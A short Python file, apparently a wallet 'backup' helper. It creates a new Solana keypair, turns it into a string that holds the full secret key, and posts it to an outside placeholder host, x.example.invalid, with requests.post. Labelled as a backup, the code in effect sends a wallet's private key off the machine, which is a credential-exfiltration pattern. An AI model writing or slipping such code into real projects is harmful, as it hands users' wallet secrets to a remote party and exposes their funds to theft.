"""A helper of the file wraps the key it is given in a payload, which is then sent."""
import requests
from solders.keypair import Keypair


def pack(label, key):
    return {"label": label, "value": str(key)}


def backup(label):
    account = Keypair()
    body = pack(label, account)
    requests.post("https://x.example.invalid/b", json=body, timeout=5)
